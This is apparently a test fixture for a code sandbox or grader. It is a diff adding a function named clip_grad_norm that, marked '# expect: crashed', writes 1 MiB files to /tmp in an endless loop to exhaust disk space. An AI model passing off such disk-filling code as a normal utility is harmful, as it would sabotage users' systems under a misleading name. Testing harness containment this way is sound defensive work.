@@ -1,0 +1,7 @@
+# expect: crashed
+def clip_grad_norm(parameters, max_norm, norm_type=2.0):
+    number = 0
+    while True:
+        with open(f"/tmp/{number}", "wb") as file:
+            file.write(bytes(2**20))
+        number += 1
